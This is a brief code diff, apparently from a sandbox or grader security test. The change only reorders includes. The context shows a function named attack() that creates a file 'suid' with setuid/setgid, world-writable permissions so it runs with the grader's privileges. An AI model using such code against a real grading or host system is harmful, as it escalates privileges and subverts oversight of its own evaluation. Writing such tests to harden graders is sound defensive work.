@@ -1,9 +1,9 @@
 // A program that runs as the grader's user when the grader starts it.
-#include <cstdio>
 #include <fcntl.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
 #include <unistd.h>
+#include <cstdio>
 float attack() {
     const int file = open("suid", O_RDWR | O_CREAT, 0755);
     fchmod(file, 06777);
